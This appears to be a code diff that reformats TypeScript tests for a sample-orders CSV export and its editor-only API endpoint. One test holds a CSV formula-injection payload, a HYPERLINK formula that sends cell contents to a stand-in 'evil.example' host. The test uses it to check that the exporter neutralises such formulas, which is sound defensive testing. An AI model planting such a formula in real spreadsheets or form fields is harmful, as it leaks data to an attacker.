@@ -9,9 +9,28 @@ const order = (overrides: Partial<SampleOrder['contact']> = {}): SampleOrder => 
   idempotencyKey: '4b7f8a52-2f0e-4d5b-9a55-0f3c1b0a9e11',
   regionTag: 'regionUs',
   locale: 'en',
-  items: [{ sku: 'TF-10001', id: 'a' }, { sku: 'TF-10002', id: 'b' }],
-  contact: { firstName: 'Ana', lastName: 'Lopez', email: 'ana@bistro.example', phone: '+12125550134', phoneExtension: null, businessName: 'Bistro Ana', businessType: 'restaurant', ...overrides },
-  shippingAddress: { street: '12 Main St', street2: null, city: 'New York', state: 'NY', postcode: '10001', country: 'US' },
+  items: [
+    { sku: 'TF-10001', id: 'a' },
+    { sku: 'TF-10002', id: 'b' },
+  ],
+  contact: {
+    firstName: 'Ana',
+    lastName: 'Lopez',
+    email: 'ana@bistro.example',
+    phone: '+12125550134',
+    phoneExtension: null,
+    businessName: 'Bistro Ana',
+    businessType: 'restaurant',
+    ...overrides,
+  },
+  shippingAddress: {
+    street: '12 Main St',
+    street2: null,
+    city: 'New York',
+    state: 'NY',
+    postcode: '10001',
+    country: 'US',
+  },
   createdAt: '2025-03-01T10:00:00.000Z',
   updatedAt: '2025-03-01T10:00:00.000Z',
 })
@@ -28,7 +47,15 @@ describe('sampleOrdersCsv', () => {
   })
 
   it('neutralises formulas a visitor typed, and quotes what needs quoting', () => {
-    const [, row] = lines(sampleOrdersCsv([order({ businessName: '=HYPERLINK("https://evil.example?"&A1,"Bistro")', lastName: '@SUM(A1:A9)', firstName: 'Ana, "Chef"' })]))
+    const [, row] = lines(
+      sampleOrdersCsv([
+        order({
+          businessName: '=HYPERLINK("https://evil.example?"&A1,"Bistro")',
+          lastName: '@SUM(A1:A9)',
+          firstName: 'Ana, "Chef"',
+        }),
+      ]),
+    )
     expect(row).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""Bistro"")"`)
     expect(row).toContain("'@SUM(A1:A9)")
     expect(row).toContain('"Ana, ""Chef"""')
@@ -48,7 +75,9 @@ describe('GET /api/sample-orders/export.csv', () => {
       const { find, response } = call(user)
       const answer = await response
       expect(answer.status).toBe(403)
-      await expect(answer.json()).resolves.toEqual({ message: 'Only editors can export sample orders.' })
+      await expect(answer.json()).resolves.toEqual({
+        message: 'Only editors can export sample orders.',
+      })
       expect(find).not.toHaveBeenCalled()
     }
   })
@@ -58,9 +87,18 @@ describe('GET /api/sample-orders/export.csv', () => {
     const answer = await response
     expect(answer.status).toBe(200)
     expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
-    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="sample-orders.csv"')
+    expect(answer.headers.get('content-disposition')).toBe(
+      'attachment; filename="sample-orders.csv"',
+    )
     expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
     expect(lines(await answer.text())[1]).toMatch(/^SO-ABCD-EFGH,/)
-    expect(find).toHaveBeenCalledWith(expect.objectContaining({ collection: 'sample-orders', sort: '-createdAt', limit: MAX_EXPORTED_ORDERS, depth: 0 }))
+    expect(find).toHaveBeenCalledWith(
+      expect.objectContaining({
+        collection: 'sample-orders',
+        sort: '-createdAt',
+        limit: MAX_EXPORTED_ORDERS,
+        depth: 0,
+      }),
+    )
   })
 })
